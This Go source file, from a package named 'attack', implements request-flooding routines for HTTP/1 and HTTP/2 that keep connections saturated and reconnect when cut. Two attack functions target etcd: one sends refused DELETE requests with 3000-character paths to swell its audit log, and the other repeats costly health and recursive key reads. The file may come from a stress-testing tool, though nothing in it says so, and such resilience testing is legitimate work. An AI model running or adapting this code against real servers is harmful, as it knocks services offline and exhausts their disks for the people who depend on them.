package attack

import (
	"bytes"
	"context"
	"io"
	"time"

	"golang.org/x/net/http2"
)

// flood sends batches of requests on some connections without a pause, and reads what
// comes. Reconnecting attackers replace connections that were cut; all others end with
// them.
func (c *crew) flood(ctx context.Context, connections, batch int, r func(n int) *request, ready func()) error {
	return together(ctx, connections, func(i int) {
		for ctx.Err() == nil {
			if k, err := c.dial(ctx, i, dialOptions{}); err == nil {
				stop := context.AfterFunc(ctx, func() { _ = k.SetDeadline(time.Unix(1, 0)) })
				if c.Protocol == HTTP2 {
					c.floodHTTP2(k, batch, r)
				} else {
					c.floodHTTP1(k, batch, r)
				}
				k.leave(stop() && ctx.Err() == nil)
			}
			if !c.Reconnect || !wait(ctx, beat) {
				return
			}
		}
	}, ready)
}

// floodHTTP1 writes and reads at the same time, so that the server has a request whenever
// it can take one.
func (c *crew) floodHTTP1(k *conn, batch int, r func(n int) *request) {
	var all bytes.Buffer
	for n := range batch {
		all.Write(r(n).http1(c.Protocol))
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = io.Copy(io.Discard, counting{c, k})
		_ = k.SetDeadline(time.Unix(1, 0)) // the writer must not outlive the reader
	}()
	for {
		if _, err := k.Write(all.Bytes()); err != nil {
			break
		}
	}
	_ = k.SetDeadline(time.Unix(1, 0))
	<-done
}

// floodHTTP2 keeps a batch of streams open: it sends a request for each that has ended.
func (c *crew) floodHTTP2(k *conn, batch int, r func(n int) *request) {
	h := newH2(k)
	if h.begin() != nil {
		return
	}
	for n := range batch {
		if _, err := h.send(r(n)); err != nil {
			return
		}
	}
	for n := batch; ; {
		frame, err := h.frame()
		if err != nil {
			return
		}
		if frame.Header().Type == http2.FrameGoAway {
			return
		}
		ended := frame.Header().Type == http2.FrameRSTStream
		switch frame := frame.(type) {
		case *http2.MetaHeadersFrame:
			ended = frame.StreamEnded()
		case *http2.DataFrame:
			ended = frame.StreamEnded()
		}
		if ended {
			if _, err := h.send(r(n)); err != nil {
				return
			}
			n++
		}
	}
}

// refusals sends writes that are refused and have long paths: each is a line of the audit
// log.
func refusals(ctx context.Context, c *crew, ready func()) error {
	target := "/v2/keys/conftool/" + long(3000)
	return c.flood(ctx, 4*len(c.Sources), 50, func(int) *request { return &request{method: "DELETE", target: target} }, ready)
}

// proposals sends reads that etcd answered one by one: its health, which costs a proposal,
// the head of a tree, and a tree with unknown parameters.
func proposals(ctx context.Context, c *crew, ready func()) error {
	list := []*request{
		{method: "GET", target: "/health"},
		{method: "HEAD", target: "/v2/keys/siege?recursive=true"},
		{method: "GET", target: "/v2/keys/siege?recursive=true&unknown=1"},
	}
	return c.flood(ctx, max(8, len(c.Sources)), 20, func(n int) *request { return list[n%len(list)] }, ready)
}
